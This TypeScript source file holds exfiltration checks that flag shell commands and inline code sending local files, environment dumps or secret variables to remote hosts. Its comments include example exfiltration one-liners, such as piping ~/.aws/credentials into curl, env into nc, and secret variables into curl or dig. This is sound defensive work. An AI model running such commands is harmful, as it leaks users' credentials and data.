/** Local data leaving the machine: uploads, remote copies, raw sockets, secrets carried by network commands. */
import { optionValues } from '../../facts/argv.js';
import { nameOf } from '../../facts/cmd.js';
import { shellTextOf } from '../../facts/facts.js';
import {
  envDumpOf,
  hasDataInput,
  onlyLiteralUpstream,
  printsCredentials,
  secretSource,
  secretVariable,
  sensitivityOf,
  stdinSensitivity,
  substitutionSensitivity,
  type Sensitivity,
} from '../../facts/flow.js';
import { hostOfRemoteSpec, hostOfUrl, isLocalHost } from '../../facts/hosts.js';
import { devTcpHost, hostsOfCmd, offScope, uploadSources } from '../../facts/network.js';
import { childrenOf, upstreamOf } from '../../facts/pipeline.js';
import { pathsOf } from '../../facts/roles.js';
import { clip } from '../../wire/text.js';
import type { Check } from './index.js';

export const upload: Check = (f) => {
  const out: string[] = [];
  const scoped = (f.state.network_scope ?? []).length > 0;
  for (const c of f.cmds) {
    const sources = uploadSources(f, c);
    if (sources.length === 0) continue;
    const hosts = hostsOfCmd(f, c);
    if (hosts.length === 0) hosts.push(null);
    if (hosts.every((h) => h !== null && isLocalHost(h))) continue;
    const literalStdin = upstreamOf(f, c).length > 0 && onlyLiteralUpstream(f, c);
    const procSubs = childrenOf(f, c).filter((d) => d.inv.context === 'process-substitution');
    let worst: Sensitivity = 0;
    const named: string[] = [];
    for (const s of sources) {
      if (s === '-') {
        if (literalStdin) continue;
        worst = Math.max(worst, stdinSensitivity(f, c)) as Sensitivity;
        named.push('stdin');
      } else if (s.startsWith('/dev/fd/') && procSubs.length > 0) {
        // `-d @<(cmd)` sends what cmd prints: judged by what it reads (credentials it prints,
        // dumps and secret variables are secret-into-network's).
        for (const d of procSubs) {
          // `@<(echo "token=$X")`: a variable's value, not an ordinary file.
          if ((d.name === 'echo' || d.name === 'printf') && d.args.some((a) => a === null)) worst = Math.max(worst, 1) as Sensitivity;
          for (const r of pathsOf(f, d, 'read')) worst = Math.max(worst, sensitivityOf(f, r.mask)) as Sensitivity;
        }
        named.push(`<(${procSubs.map(nameOf).join(', ')})`);
      } else {
        const built = s.startsWith('/dev/fd/') && childrenOf(f, c).some((d) => d.inv.context === 'process-substitution');
        worst = Math.max(worst, built ? substitutionSensitivity(f, c) : sensitivityOf(f, f.ref(s, c.cwd).mask)) as Sensitivity;
        named.push(s);
      }
    }
    if (named.length === 0) continue;
    const off = hosts.filter((h) => offScope(f, h));
    const what = clip(named.join(', '));
    if (worst === 2) out.push(`${c.name} sends credential material (${what}) to ${hostList(hosts)}`);
    else if (scoped && off.length > 0) out.push(`${c.name} uploads ${what} to ${hostList(off)} (outside the declared network scope)`);
    else if (!scoped && worst === 1)
      out.push(`${c.name} uploads ${what} (beyond ordinary project files) to ${hostList(off)}, with no network scope declared`);
  }
  return out;
};

function hostList(hosts: Array<string | null>): string {
  return [...new Set(hosts.map((h) => h ?? '<unresolved host>'))].slice(0, 3).join(', ');
}

export const remoteCopy: Check = (f) => {
  const out: string[] = [];
  const scoped = (f.state.network_scope ?? []).length > 0;
  for (const c of f.cmds) {
    if (!f.env.setHas('remote_copiers', c.name)) continue;
    const ops = f.parsed(c).positionals;
    if (ops.length < 2) continue;
    const dest = ops[ops.length - 1];
    const destHost = dest === null || dest === undefined ? null : hostOfRemoteSpec(dest);
    if (dest !== null && destHost === null) continue;
    if (destHost !== null && isLocalHost(destHost)) continue;
    const sources = ops.slice(0, -1).filter((s) => s === null || hostOfRemoteSpec(s) === null);
    if (sources.length === 0) continue;
    let worst: Sensitivity = 0;
    for (const s of sources) worst = Math.max(worst, s === null ? 1 : sensitivityOf(f, f.ref(s, c.cwd).mask)) as Sensitivity;
    const what = clip(sources.map((s) => s ?? '<unresolved>').join(' '));
    const to = destHost ?? '<unresolved host>';
    if (worst === 2) out.push(`${c.name} copies credential material (${what}) to ${to}`);
    else if (scoped && offScope(f, destHost)) out.push(`${c.name} copies ${what} to ${to} (outside the declared network scope)`);
    else if (!scoped && worst === 1)
      out.push(`${c.name} copies ${what} (beyond ordinary project files) to ${to}, with no network scope declared`);
  }
  // git push straight to a URL (not a configured remote) sends the repository there: off the
  // declared scope that is a leak; with no scope it is how people push (a mirror, a fork, CI
  // with a token in the URL), not exfiltration.
  if (scoped)
    for (const c of f.cmds) {
      if (c.name !== 'git') continue;
      const ops = f.parsed(c).positionals;
      if (ops[0] !== 'push') continue;
      const target = ops[1];
      if (target === undefined || target === null) continue;
      const host = target.includes('://') ? hostOfUrl(target) : hostOfRemoteSpec(target);
      if (host !== null && offScope(f, host))
        out.push(`git push sends the repository to ${host} (a URL, not a configured remote, outside the declared scope)`);
    }
  return out;
};

export const socketSend: Check = (f) => {
  const out: string[] = [];
  const netDev = f.env.classifier.maskOf(['net-device']);
  for (const c of f.cmds) {
    // Anything written to /dev/tcp goes over the network.
    for (const r of c.inv.redirects) {
      if (
        r.target &&
        (r.op === '>' || r.op === '>>' || r.op === '&>' || r.op === '>&' || r.op === '<>') &&
        f.ref(r.target, c.cwd).mask & netDev
      ) {
        const h = devTcpHost(r.target);
        if (h === null || !isLocalHost(h)) out.push(`${nameOf(c)} writes to ${clip(r.target)}`);
      }
    }
    if (c.name === 'ssh') {
      // Piping into ssh is ordinary (deploys, `cat key.pub | ssh host …`); credentials are not.
      const s = hasDataInput(f, c) !== null ? secretSource(f, c) : null;
      if (s !== null) out.push(`ssh carries ${s} to ${hostList(hostsOfCmd(f, c))}`);
      continue;
    }
    if (!f.env.setHas('socket_tools', c.name) && !f.env.setHas('mailers', c.name)) continue;
    if (f.flag(c, '-l') || f.flag(c, '--listen') || f.flag(c, '-z')) continue;
    const hosts = f.env.setHas('mailers', c.name) ? [null] : hostsOfCmd(f, c);
    if (hosts.length === 0 || hosts.every((h) => h !== null && isLocalHost(h))) continue;
    const data = hasDataInput(f, c);
    if (data === null) continue;
    const secretFrom = secretSource(f, c);
    if (secretFrom !== null || hosts.some((h) => offScope(f, h)))
      out.push(`${c.name} sends local data (${secretFrom ?? data}) to ${hostList(hosts)}`);
  }
  return out;
};

export const secretIntoNetwork: Check = (f) => {
  const out: string[] = [];
  for (const c of f.cmds) {
    if (!f.env.setHas('net_senders', c.name)) continue;
    const hosts = hostsOfCmd(f, c);
    if (hosts.length > 0 && hosts.every((h) => h !== null && isLocalHost(h))) continue;
    for (const d of childrenOf(f, c)) {
      if (d.inv.context !== 'substitution' && d.inv.context !== 'process-substitution') continue;
      if (envDumpOf(f, d)) {
        out.push(`${c.name} carries an environment dump (${nameOf(d)})`);
        continue;
      }
      const secret = f.env.classifier.maskOf(['secret']);
      if (printsCredentials(f, d)) {
        out.push(`${c.name} carries the output of ${nameOf(d)} (a credential)`);
        continue;
      }
      if (f.env.setHas('non_readers', d.name)) continue;
      for (const r of pathsOf(f, d, 'read')) if (r.mask & secret) out.push(`${c.name} carries the contents of ${clip(r.raw ?? '')}`);
    }
    // Piped in: `cat ~/.aws/credentials | curl -d @- …`, `env | nc host 80`.
    if (upstreamOf(f, c).length > 0) {
      const s = secretSource(f, c);
      if (s !== null && s !== `${nameOf(c)}`) out.push(`${c.name} receives ${s} on stdin`);
    }
  }
  return out;
};

/** Variables named like secrets whose name says nothing about a value: the shell's own. */
const NOT_SECRET_VARS: ReadonlySet<string> = new Set(['PWD', 'OLDPWD', 'PASSWD_FILE']);

/** `$NAME` / `${NAME}` in a text, in order; a linear scan. */
function variablesIn(text: string): string[] {
  const out: string[] = [];
  for (let i = text.indexOf('$'); i >= 0 && i < text.length; i = text.indexOf('$', i + 1)) {
    let k = i + 1;
    if (text[k] === '{') k++;
    const start = k;
    while (k < text.length && /[A-Za-z0-9_]/.test(text[k]!)) k++;
    if (k > start && !/[0-9]/.test(text[start]!)) out.push(text.slice(start, k));
  }
  return out;
}

/** Hosts named in a text's URLs (`scheme://[user@]host[:port]`); a linear scan. */
function urlHostsIn(text: string): string[] {
  const out: string[] = [];
  for (let i = text.indexOf('://'); i >= 0; i = text.indexOf('://', i + 3)) {
    let k = i + 3;
    while (k < text.length && !/[/\s"'?#]/.test(text[k]!)) k++;
    const auth = text.slice(i + 3, k);
    const host = auth
      .slice(auth.lastIndexOf('@') + 1)
      .replace(/:\d*$/, '')
      .toLowerCase();
    if (host !== '' && !host.includes('$')) out.push(host);
  }
  return out;
}

/** Whether `host` is the API of the variable's vendor: the pack's `secret_env_hosts`, else the vendor's name in the host. */
function vendorHost(f: Parameters<Check>[0], name: string, host: string): boolean {
  const vendor = name.replace(/^_+/, '').split('_')[0]!.toUpperCase();
  const known = f.env.pack.secret_env_hosts?.[vendor];
  if (known) return known.some((d) => host === d || host.endsWith(`.${d}`));
  return vendor.length >= 3 && host.includes(vendor.toLowerCase());
}

/**
 * `curl "https://x/?k=$AWS_SECRET_ACCESS_KEY"`, `curl -H "X-Key: $OPENAI_API_KEY" https://x/`,
 * `dig "$TOKEN.x.example"`: a secret-named variable expanded into a network command sends its
 * value, whether or not the call sets it. Sending a vendor's own variable to that vendor's API
 * (`$GITHUB_TOKEN` to api.github.com) is how the API is used, and loopback is always fine.
 */
export const secretVariableIntoNetwork: Check = (f) => {
  const input = f.state.input ?? {};
  let text: string | null = null;
  if (f.kind === 'shell') text = shellTextOf(input, f.state.tool);
  else if (f.kind === 'fetch') text = f.urls.filter((u): u is string => typeof u === 'string').join(' ');
  if (text === null || !text.includes('$')) return [];
  const vars = [...new Set(variablesIn(text))].filter((v) => !NOT_SECRET_VARS.has(v) && secretVariable(f, v));
  if (vars.length === 0) return [];
  const textHosts = urlHostsIn(text);
  const out: string[] = [];
  const check = (who: string, hosts: Array<string | null>): void => {
    const named = hosts.some((h) => h === null) ? [...hosts.filter((h): h is string => h !== null), ...textHosts] : (hosts as string[]);
    if (named.length > 0 && named.every((h) => isLocalHost(h))) return;
    for (const v of vars)
      if (!named.some((h) => !isLocalHost(h) && vendorHost(f, v, h)) || named.length === 0)
        out.push(`${who} sends $${v} to ${hostList(named.length > 0 ? named : [null])}`);
  };
  if (f.kind === 'fetch')
    check(
      'the fetch',
      f.urls.map((u) => (typeof u === 'string' ? hostOfUrl(u) : null)),
    );
  for (const c of f.cmds) {
    if (!f.env.setHas('net_senders', c.name) && !f.env.setHas('dns_tools', c.name)) continue;
    // Only an argument the reader could not resolve, or a process substitution, can hold the variable's value.
    if (!c.args.some((a) => a === null) && !childrenOf(f, c).some((d) => d.inv.context === 'process-substitution')) continue;
    check(nameOf(c), f.env.setHas('dns_tools', c.name) ? [null] : hostsOfCmd(f, c));
  }
  return out;
};

/**
 * An FTP or SFTP session told to upload on its stdin: a here-document, a here-string or
 * literal text piped in (`sftp host <<< 'put -r .'`, `printf 'put f\n' | sftp host`). The
 * argument form (`lftp -e 'mirror -R'`) is a declarative rule; this reads the script.
 */
export const transferScript: Check = (f) => {
  const out: string[] = [];
  for (const c of f.cmds) {
    if (!f.env.setHas('script_transfer_clients', c.name)) continue;
    const texts: string[] = [];
    for (const r of c.inv.redirects) if (r.body !== undefined) texts.push(r.body);
    for (const u of upstreamOf(f, c))
      if ((u.name === 'echo' || u.name === 'printf') && u.args.every((a) => a !== null)) texts.push(u.args.join(' '));
    // `smbclient //h/s -c 'recurse; mput *'`, `lftp -e 'put x'`: the session's commands given as an option.
    for (const v of optionValues(f.parsed(c), TRANSFER_SCRIPT_OPTS)) if (v !== null) texts.push(v);
    const put = texts.map(uploadLine).find((x) => x !== null);
    if (put) out.push(`${nameOf(c)} is fed an upload on its stdin (${clip(put, 60)})`);
  }
  return out;
};

const TRANSFER_SCRIPT_OPTS = ['-c', '--command', '-e'];
const UPLOAD_VERBS = new Set(['put', 'mput', 'reput', 'send', 'append']);

/** The first line of a transfer script that uploads (`put`, `mput`, `mirror -R`), or null. Lines split on newlines, `\n` and `;`. */
function uploadLine(text: string): string | null {
  for (const part of text.split(/\\n|[\n;]/)) {
    const line = part.trim();
    const words = line.split(/\s+/);
    const verb = (words[0] ?? '').toLowerCase();
    if (UPLOAD_VERBS.has(verb)) return line;
    if (verb === 'mirror' && words.some((w) => w === '-R' || w === '--reverse')) return line;
  }
  return null;
}

/**
 * Interpreter code that takes credential material — a secret file it reads, a secret-named
 * environment variable — and reaches a URL in the same program: `requests.post(url,
 * data=open('.env').read())`, `fetch(url + process.env.AWS_SECRET_ACCESS_KEY)`. Loopback URLs
 * pass, and so does a vendor's own variable sent to that vendor's host.
 */
export const inlineSecretSend: Check = (f) => {
  if (!f.inlineNotes.some((n) => n.action.kind === 'send')) return [];
  const out: string[] = [];
  const secret = f.env.classifier.maskOf(['secret']);
  for (const c of f.cmds) {
    const notes = f.inlineNotes.filter((n) => n.cmd === c.i).map((n) => n.action);
    const send = notes.find((a) => a.kind === 'send');
    if (send === undefined || send.kind !== 'send') continue;
    const host = hostOfUrl(send.url);
    if (host !== null && isLocalHost(host)) continue;
    const to = host ?? '<unresolved host>';
    for (const d of childrenOf(f, c))
      for (const r of pathsOf(f, d, 'read'))
        if (r.mask & secret) out.push(`${nameOf(c)} inline code reads ${clip(r.raw ?? '')} and sends to ${to}`);
    for (const a of notes)
      if (a.kind === 'env-var' && secretVariable(f, a.name) && !(host !== null && vendorHost(f, a.name, host)))
        out.push(`${nameOf(c)} inline code reads $${a.name} and sends to ${to}`);
  }
  return out;
};
